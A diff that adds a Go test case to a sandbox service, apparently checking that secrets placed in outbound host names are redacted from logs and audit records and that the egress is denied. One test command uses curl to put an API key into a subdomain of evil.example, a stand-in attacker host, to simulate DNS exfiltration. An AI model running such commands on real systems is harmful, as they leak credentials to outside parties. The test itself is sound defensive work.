@@ -293,6 +293,33 @@ print(hashlib.sha256(urllib.request.urlopen(sys.argv[1], context=ctx).read()).he
 		}
 	})
 
+	t.Run("secrets in host names stay out of events and the audit log", func(t *testing.T) {
+		const secret = "AbCdEfGh12345678XyZ"
+		code, b := h.call(h.token, "POST", "/v1/sandbox", map[string]any{"sessionId": "egsec", "size": "test-egress", "secrets": map[string]string{"API_KEY": secret}})
+		if code != http.StatusCreated {
+			t.Fatalf("%d %s", code, b)
+		}
+		h.sh("egsec", fmt.Sprintf("curl -s -m 10 http://$API_KEY.mirror.%s:%d/small; curl -s -m 10 http://$API_KEY.evil.example/", testDomain, u.httpPort))
+		if code, b := h.call(h.token, "POST", "/v1/sandbox/egsec/teardown", nil); code != http.StatusOK {
+			t.Fatalf("teardown: %d %s", code, b)
+		}
+		var audit []byte
+		for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
+			if _, audit = h.call(h.token, "GET", "/v1/audit?sessionId=egsec", nil); strings.Contains(string(audit), "egress.summary") {
+				break // the audit log is written asynchronously
+			}
+		}
+		logs := h.logsText("egsec")
+		for _, form := range []string{secret, strings.ToLower(secret)} {
+			if strings.Contains(logs, form) || strings.Contains(string(audit), form) {
+				t.Fatalf("secret %q leaked:\nlogs: %s\naudit: %s", form, logs, audit)
+			}
+		}
+		if !strings.Contains(string(audit), "egress.summary") || !strings.Contains(string(audit), "[REDACTED:API_KEY]") || !strings.Contains(logs, "egress_denied") {
+			t.Fatalf("expected a redacted summary and a denial:\nlogs: %s\naudit: %s", logs, audit)
+		}
+	})
+
 	t.Run("metrics count bytes and denials", func(t *testing.T) {
 		resp, err := http.Get(h.ts.URL + "/metrics")
 		if err != nil {
